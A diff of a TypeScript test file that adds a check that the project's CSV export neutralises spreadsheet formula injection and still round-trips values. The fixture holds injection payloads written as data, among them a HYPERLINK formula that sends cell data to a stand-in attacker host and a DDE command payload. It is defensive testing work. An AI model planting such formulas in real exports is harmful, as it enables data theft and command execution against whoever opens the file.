@@ -1,6 +1,7 @@
 // CSV export and import as a user meets them: the columns a spreadsheet shows, the predecessor
 // column, guessed mappings, and rows refused with the interface's reasons.
 import { describe, expect, it } from 'vitest'
+import Papa from 'papaparse'
 import type { Dependency } from '../../src-shared/api'
 import { csvRows, tasksCsv } from '../../src-shared/exchange/csv-export'
 import { planCsv, readCsv } from '../../src-shared/exchange/csv-import'
@@ -46,7 +47,36 @@ describe('CSV export', () => {
     expect(table.rows[0]![table.headers.indexOf('title')]).toBe('Design, "v2"')
     expect(table.rows[0]![table.headers.indexOf('tags')]).toBe('ui; x')
   })
+
+  it('writes no cell a spreadsheet would run as a formula, and still reads back the same', () => {
+    const hostile = buildTask('h', {
+      title: '=HYPERLINK("https://evil.example/?"&A2,"Click")',
+      description: '+cmd|" /C calc"!A0',
+      assignedUserEmail: '@SUM(1+1)',
+      status: '-2+3',
+      tags: ['\t=1+1'],
+      properties: { Notes: "'=already escaped", Quote: "'plain", Plain: 'plain' },
+    })
+    const text = tasksCsv([hostile], [])
+    const [, row] = readCsvRaw(text)
+    for (const cell of row!) expect(cell, cell).not.toMatch(/^[=+\-@\t\r]/)
+    const table = readCsv(text)
+    const cell = (name: string) => table.rows[0]![table.headers.indexOf(name)]
+    expect(cell('title')).toBe(hostile.title)
+    expect(cell('description')).toBe(hostile.description)
+    expect(cell('assignedUserEmail')).toBe('@SUM(1+1)')
+    expect(cell('status')).toBe('-2+3')
+    expect(cell('tags')).toBe('\t=1+1')
+    expect(cell('prop_Notes')).toBe("'=already escaped")
+    expect(cell('prop_Quote')).toBe("'plain")
+    expect(cell('prop_Plain')).toBe('plain')
+  })
 })
+
+/** The cells as a spreadsheet sees them: split, unquoted, nothing taken off. */
+function readCsvRaw(text: string): string[][] {
+  return Papa.parse<string[]>(text, { skipEmptyLines: 'greedy' }).data
+}
 
 describe('predecessor cells', () => {
   it('read APP-3+2d, leads and several refs; say which part is unreadable', () => {
